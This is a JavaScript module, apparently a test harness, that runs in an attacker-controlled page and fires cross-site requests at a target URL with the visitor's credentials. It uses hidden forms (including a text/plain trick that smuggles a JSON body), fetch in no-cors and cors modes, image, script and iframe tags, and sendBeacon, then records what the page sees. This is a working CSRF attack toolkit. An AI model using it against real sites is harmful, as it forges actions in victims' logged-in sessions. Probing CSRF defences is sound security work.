// @ts-check
/** What a page of an attacker can send by itself, without anybody's click: run in that page, in a real browser. */

/** @typedef {{how: string, status?: number, text?: string, error?: string}} Tried */

/**
 * Send requests to a URL in every way that needs nobody's permission, and in those that ask for it.
 * @param {{url: string, body: Record<string, unknown>, csrf: string}} target  csrf: a CSRF token, had the attacker one
 * @returns {Promise<Tried[]>} what its script was told
 */
export async function strike({ url, body, csrf }) {
  /** @type {Tried[]} */
  const tried = [];
  const json = JSON.stringify(body);
  const settled = (/** @type {HTMLElement} */ element) =>
    new Promise((resolve) => {
      element.onload = element.onerror = () => resolve(null);
    });

  const types = ["application/x-www-form-urlencoded", "text/plain", "multipart/form-data"];
  for (const enctype of types) {
    const frame = Object.assign(document.createElement("iframe"), { name: `frame${Math.random()}` });
    document.body.append(frame);
    const form = document.createElement("form");
    Object.assign(form, { action: url, method: "POST", enctype, target: frame.name });
    if (enctype === "text/plain") {
      // `{"username":"eve", ... ,"x":"=y"}` is JSON.
      const trick = { name: `${json.slice(0, -1)}${json === "{}" ? "" : ","}"x":"`, value: 'y"}', type: "hidden" };
      form.append(Object.assign(document.createElement("input"), trick));
    } else {
      for (const [name, value] of Object.entries(body)) {
        form.append(Object.assign(document.createElement("input"), { name, value: String(value), type: "hidden" }));
      }
    }
    document.body.append(form);
    const loaded = settled(frame);
    form.submit();
    await loaded;
    tried.push({ how: `form ${enctype}` });
    frame.remove();
  }

  const put = async (/** @type {string} */ how, /** @type {RequestInit} */ init) => {
    try {
      const response = await fetch(url, { credentials: "include", ...init });
      tried.push({ how, status: response.status, text: await response.text() });
    } catch (error) {
      tried.push({ how, error: /** @type {Error} */ (error).name });
    }
  };
  for (const type of types) {
    await put(`no-cors ${type}`, { method: "POST", mode: "no-cors", body: json, headers: { "Content-Type": type } });
  }
  await put("no-cors without a body", { method: "POST", mode: "no-cors" });
  await put("no-cors GET", { mode: "no-cors" });
  await put("cors GET", {});
  await put("cors text/plain", { method: "POST", body: json });
  await put("cors without a body", { method: "POST" });
  await put("cors json", { method: "POST", body: json, headers: { "Content-Type": "application/json" } });
  await put("cors with a CSRF token", { method: "POST", headers: { "X-CSRF-Token": csrf } });
  await put("cors DELETE", { method: "DELETE" });

  for (const tag of /** @type {const} */ (["img", "script", "iframe"])) {
    const element = document.createElement(tag);
    const loaded = settled(element);
    element.src = url;
    document.body.append(element);
    await loaded;
    tried.push({ how: tag });
    element.remove();
  }
  navigator.sendBeacon(url, new Blob([json], { type: "text/plain" }));
  navigator.sendBeacon(url);
  return tried;
}
